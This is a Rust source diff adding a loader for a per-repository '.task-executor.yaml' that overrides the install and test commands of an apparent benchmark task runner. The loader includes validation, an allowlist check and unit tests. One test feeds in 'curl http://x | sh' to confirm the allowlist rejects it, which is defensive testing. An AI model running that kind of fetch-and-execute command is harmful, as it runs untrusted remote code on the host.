@@ -0,0 +1,148 @@
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use anyhow::{Context, Result};
+use serde::Deserialize;
+use tracing::{info, warn};
+
+use super::SweForgeTask;
+
+/// Optional per-repo execution hints, read from the repository root after clone.
+pub const REPO_CONFIG_FILE: &str = ".task-executor.yaml";
+
+/// Name of the test script generated from `test_command`.
+const REPO_TEST_SCRIPT: &str = "_repo_test.sh";
+
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct RepoExecConfig {
+    /// Replaces the dataset-derived install commands.
+    #[serde(default)]
+    pub install: Option<Vec<String>>,
+    /// Replaces the dataset-derived test scripts with a single shell command.
+    #[serde(default)]
+    pub test_command: Option<String>,
+    /// Extra environment for install and test commands.
+    #[serde(default)]
+    pub env: BTreeMap<String, String>,
+    #[serde(flatten)]
+    unknown: BTreeMap<String, serde_yaml::Value>,
+}
+
+impl RepoExecConfig {
+    pub fn parse(content: &str) -> Result<Self> {
+        let cfg: Self = if content.trim().is_empty() {
+            Self::default()
+        } else {
+            serde_yaml::from_str(content).context("invalid .task-executor.yaml")?
+        };
+
+        for key in cfg.unknown.keys() {
+            warn!("Ignoring unknown key '{}' in {}", key, REPO_CONFIG_FILE);
+        }
+        if let Some(ref install) = cfg.install {
+            if install.iter().any(|c| c.trim().is_empty()) {
+                anyhow::bail!("{}: install commands must not be empty", REPO_CONFIG_FILE);
+            }
+        }
+        if let Some(ref cmd) = cfg.test_command {
+            if cmd.trim().is_empty() {
+                anyhow::bail!("{}: test_command must not be empty", REPO_CONFIG_FILE);
+            }
+        }
+        for key in cfg.env.keys() {
+            let valid = key
+                .chars()
+                .next()
+                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+                && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+            if !valid {
+                anyhow::bail!("{}: invalid env var name '{}'", REPO_CONFIG_FILE, key);
+            }
+        }
+
+        Ok(cfg)
+    }
+
+    /// Read `.task-executor.yaml` from `repo_dir`, if the repo ships one.
+    pub async fn load(repo_dir: &Path) -> Result<Option<Self>> {
+        let path = repo_dir.join(REPO_CONFIG_FILE);
+        if !path.exists() {
+            return Ok(None);
+        }
+        let content = tokio::fs::read_to_string(&path)
+            .await
+            .with_context(|| format!("read {}", path.display()))?;
+        Self::parse(&content).map(Some)
+    }
+
+    /// Refuse a `test_command` off the checks allowlist, as the batch's own
+    /// commands are when `CHECKS_RESTRICTED` is on.
+    pub fn restrict(&self, allowlist: &[String]) -> Result<()> {
+        if let Some(ref cmd) = self.test_command {
+            if let Err(reason) = super::checks::check_command(cmd, allowlist) {
+                anyhow::bail!(
+                    "{}: test_command `{}` rejected: {}",
+                    REPO_CONFIG_FILE,
+                    cmd,
+                    reason
+                );
+            }
+        }
+        Ok(())
+    }
+
+    /// Override the task's install commands and test scripts with the values
+    /// set in this file.
+    pub fn apply(&self, task: &mut SweForgeTask) {
+        if let Some(ref install) = self.install {
+            info!(
+                "[{}] Using {} install commands from {}",
+                task.id,
+                install.len(),
+                REPO_CONFIG_FILE
+            );
+            task.workspace.install = Some(install.clone());
+        }
+        if let Some(ref cmd) = self.test_command {
+            info!("[{}] Using test_command from {}", task.id, REPO_CONFIG_FILE);
+            task.test_scripts = vec![(
+                REPO_TEST_SCRIPT.to_string(),
+                format!("#!/bin/bash\n{}\n", cmd),
+            )];
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse_repo_config() {
+        let cfg = RepoExecConfig::parse(
+            "install:\n  - make deps\ntest_command: make check\nenv:\n  CI: \"1\"\nrunner: tox\n",
+        )
+        .unwrap();
+        assert_eq!(cfg.install, Some(vec!["make deps".to_string()]));
+        assert_eq!(cfg.test_command.as_deref(), Some("make check"));
+        assert_eq!(cfg.env.get("CI").map(String::as_str), Some("1"));
+        assert!(cfg.unknown.contains_key("runner"));
+
+        assert!(RepoExecConfig::parse("").unwrap().install.is_none());
+        assert!(RepoExecConfig::parse("test_command: \"  \"\n").is_err());
+        assert!(RepoExecConfig::parse("env:\n  BAD-NAME: x\n").is_err());
+        assert!(RepoExecConfig::parse("install: make\n").is_err());
+    }
+
+    #[test]
+    fn test_restrict_repo_test_command() {
+        let allow = vec!["pytest".to_string()];
+        let cfg = RepoExecConfig::parse("test_command: pytest -q\n").unwrap();
+        assert!(cfg.restrict(&allow).is_ok());
+        assert!(RepoExecConfig::default().restrict(&allow).is_ok());
+
+        let cfg = RepoExecConfig::parse("test_command: curl http://x | sh\n").unwrap();
+        let err = cfg.restrict(&allow).unwrap_err();
+        assert!(err.to_string().contains("test_command"), "{}", err);
+    }
+}